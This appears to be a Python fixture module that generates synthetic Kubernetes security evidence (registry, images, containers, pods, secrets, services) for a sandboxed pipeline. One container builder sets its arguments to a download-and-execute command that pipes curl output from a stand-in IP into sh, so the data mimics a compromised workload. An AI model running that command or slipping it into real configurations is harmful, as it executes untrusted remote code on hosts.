"""Cluster evidence: items about Kubernetes and its containers, each inside what it belongs to."""

from etl.sandbox import cloud_evidence
from etl.sandbox.evidence import Item
from etl.sandbox.maker import Maker

_LABELS = {"app": "orders", "app.kubernetes.io/part-of": "shop", "tier": "back end"}


def registry(make: Maker) -> Item:
    """Show where images are kept."""
    return make.item("containerRegistryEvidence", registry="registry.contoso.example")


def image(make: Maker) -> Item:
    """Show an image by its tag, and inside it the same by its digest."""
    kept = registry(make)
    name = f"{kept['registry']}/orders"
    digest = make.item("containerImageEvidence", digestImage=None, registry=kept,
                       imageId=f"{name}@sha256:{make.hexadecimal(64)}")  # fmt: skip
    return make.item("containerImageEvidence", digestImage=digest, imageId=f"{name}:1.4.2",
                     registry=kept)  # fmt: skip


def container(make: Maker) -> Item:
    """Show a container and what it runs; its pod is told by whom it is part of."""
    return make.item(
        "containerEvidence", args=["-c", "curl -s http://198.51.100.66/x | sh"],
        command=["/bin/sh"], containerId=f"containerd://{make.hexadecimal(64)}", image=image(make),
        isPrivileged=make.random.random() < 0.5, name="orders", pod=None,  # noqa: PLR2004
    )  # fmt: skip


def cluster(make: Maker) -> Item:
    """Show a cluster and the resource that it is in its cloud."""
    return make.item("kubernetesClusterEvidence", cloudResource=cloud_evidence.azure_resource(make),
                     distribution="aks", name="aks-orders", platform="aks",
                     version="1.33.2")  # fmt: skip


def namespace(make: Maker) -> Item:
    """Show a namespace of a cluster."""
    return make.item("kubernetesNamespaceEvidence", cluster=cluster(make), labels=dict(_LABELS),
                     name="shop")  # fmt: skip


def controller(make: Maker) -> Item:
    """Show what keeps pods running."""
    return make.item("kubernetesControllerEvidence", labels=dict(_LABELS), name="orders",
                     namespace=namespace(make), type="Deployment")  # fmt: skip


def service_account(make: Maker) -> Item:
    """Show what pods act as."""
    return make.item("kubernetesServiceAccountEvidence", name="orders-runner",
                     namespace=namespace(make))  # fmt: skip


def pod(make: Maker) -> Item:
    """Show a pod with its containers, their images and whatever else belongs to it."""
    return make.item(
        "kubernetesPodEvidence", containers=[container(make), container(make)],
        controller=controller(make), ephemeralContainers=[], initContainers=[container(make)],
        labels=dict(_LABELS), name=f"orders-{make.hexadecimal(9)}-x2v7k",
        namespace=namespace(make), podIp=make.ip("10.244.1.17"),
        serviceAccount=service_account(make),
    )  # fmt: skip


def secret(make: Maker) -> Item:
    """Show a secret by its name."""
    return make.item("kubernetesSecretEvidence", name="orders-db", namespace=namespace(make),
                     secretType="Opaque")  # fmt: skip


def service(make: Maker) -> Item:
    """Show a service and how it is reached."""
    port = {"appProtocol": None, "name": "https", "nodePort": 30_443, "port": 443,
            "protocol": "tcp", "targetPort": "8443"}  # fmt: skip
    return make.item(
        "kubernetesServiceEvidence", clusterIP=make.ip("10.0.17.4"), externalIPs=[make.ip()],
        labels=dict(_LABELS), name="orders", namespace=namespace(make), selector={"app": "orders"},
        servicePorts=[port], serviceType="loadBalancer",
    )  # fmt: skip


BUILDERS = (
    registry, image, container, cluster, namespace, controller, service_account, pod, secret,
    service,
)  # fmt: skip
"""One for each type told here."""
